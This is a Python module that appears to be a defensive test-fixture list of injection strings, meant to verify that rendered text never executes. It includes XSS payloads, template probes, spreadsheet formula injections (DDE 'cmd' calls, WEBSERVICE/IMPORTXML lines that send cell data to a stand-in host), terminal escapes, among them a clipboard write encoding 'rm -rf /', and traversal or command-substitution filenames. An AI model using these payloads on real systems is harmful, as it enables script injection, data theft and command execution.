"""Texts that try to act where they should only be shown, written by us.

What runs tells it by ``window.__x``; what asks for something asks ``x.invalid``.
"""

from __future__ import annotations

RUN = "window.__x=1"
BREAKS = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</template>",
    "</noscript>",
    '"}]}</script>',
)
_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<base href=http://x.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://x.invalid/'>",
)
MARKUP = (
    *(f"{end}{element}" for end in BREAKS for element in _ELEMENTS),
    f"<body onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext></p><style><img src=x onerror={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "<object data=http://x.invalid/a></object>",
    "<embed src=http://x.invalid/a>",
    "<link rel=stylesheet href=http://x.invalid/a.css>",
    "<link rel=dns-prefetch href=//x.invalid>",
    "<form action=http://x.invalid/><button autofocus>点</button></form>",
    f"<a href=javascript:{RUN}>点我</a>",
    "<style>@import 'http://x.invalid/a.css'</style>",
    "<style>*{background:url(http://x.invalid/b)}</style>",
    "<div style='position:fixed;inset:0;background:url(//x.invalid/c)'>",
    "<portal src=http://x.invalid/>",
    "<!--><script>window.__x=1</script>",
    "<scr<script>ipt>window.__x=1</script>",
    "<ScRiPt/x>window.__x=1</sCrIpT >",
    "＜script＞window.__x=1＜/script＞",
    "&lt;script&gt;window.__x=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__x=1&#62;",
)
ATTRIBUTES = tuple(
    f"{quote}{space}{handler}={RUN} {quote}"
    for quote in ('"', "'", "`")
    for space in (" ", "/")
    for handler in ("onmouseover", "onfocus autofocus", "onclick", "onanimationstart")
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:msgbox(1)",
    "//x.invalid/a",
    "http://x.invalid/?a=1&b=<2>",
    "file:///etc/passwd",
    "\\\\x.invalid\\share",
)
SCRIPTS = (
    f"\u2028{RUN}//",
    f"\u2029{RUN}//",
    f'";{RUN};//',
    f"';{RUN};//",
    f"\\';{RUN};//",
    f"`;{RUN};${{{RUN}}}//",
    f"</script\n>{RUN}",
    "<!--<script>",
    '{"__proto__":{"x":1}}',
    f"*/{RUN}/*",
    "\\u003cscript\\u003ewindow.__x=1",
)
STYLES = (
    "expression(window.__x=1)",
    "}body{background:url(http://x.invalid/d)}",
    "</style><style>*{display:none}</style>",
    "\\3c/style>",
    ";background-image:url('http://x.invalid/e')",
)
TEMPLATES = (
    "{{7*7}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__}}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s",
    "{0.__class__}",
    "%s%n",
    "[bold red]markup[/]",
    "[link=http://x.invalid]here[/link]",
    ":bomb:",
)
MARKDOWN = (
    f"[点](javascript:{RUN})",
    "![](http://x.invalid/f)",
    "<http://x.invalid/g>",
    "| a | b |",
    "\n# 标题",
    "```\ncode",
    "**粗** __体__ ~~删~~",
    "[r]: http://x.invalid/h",
    "- [x] 已核对",
    "<details><summary>x</summary>",
)
_CALLS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.invalid","点")', "SUM(A1:A9)*9")
FORMULAS = (
    *(f"{sign}{call}" for sign in "=+-@＝＋－＠" for call in _CALLS),
    *(f"{space}=1+1" for space in ("\t", "\r", "\n", " ", "\u3000", "\u200b", "\ufeff", "'")),
    "说明\n=1+1",
    "说明\r\n  @SUM(A1)",
    "说明;=1+1",
    '","=1+1',
    "\t-2+3",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://x.invalid/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")",
    "|calc",
    "%0A=1+1",
)  # fmt: skip
TERMINAL = (
    "\x1b[31m红",
    "\x1b[2J\x1b[H",
    "\x1b[38;5;201m",
    "\x1b[6n",
    "\x1b[8m看不见\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://x.invalid\x1b\\点\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP+q544e\x1b\\",
    "\x1bc",
    "\x1b(0lqk",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "\x85next",
    "a\x08b",
    "\x0b\x0c",
    "\x07",
    "\x7f",
    "a\rb",
    "\x00",
    "\x0e\x0f",
)
DIRECTIONS = (
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\u202dabc\u202c",
    "\u200f\u200e\u061c",
    "\u200b\u200c\u2060\ufeff",
    "\U000e0041\U000e007f",
)
NAMES = (
    "..",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\x",
    "CON",
    "aux.txt",
    "NUL",
    "LPT1.html",
    "-rf",
    "--help",
    "~root",
    "$(id)",
    "`id`",
    "a;id",
    "名" * 70,
    "x" * 200,
    " ",
    ".hidden",
    "a\udcffb",
    "%2e%2e%2f",
    "?q#f",
    "con:stream",
)
ALL = tuple(
    dict.fromkeys(
        (
            *MARKUP, *ATTRIBUTES, *ADDRESSES, *SCRIPTS, *STYLES, *TEMPLATES, *MARKDOWN, *FORMULAS,
            *TERMINAL, *DIRECTIONS, *NAMES,
        )
    )
)  # fmt: skip


def file_names(suffix: str = ".txt") -> list[str]:
    """Those that Linux takes as a name, in one folder."""
    made = (f"{text}{suffix}" for text in ALL)
    return [n for n in made if "/" not in n and "\0" not in n and len(_bytes(n)) < 250]


def _bytes(name: str) -> bytes:
    return name.encode("utf-8", "surrogateescape")
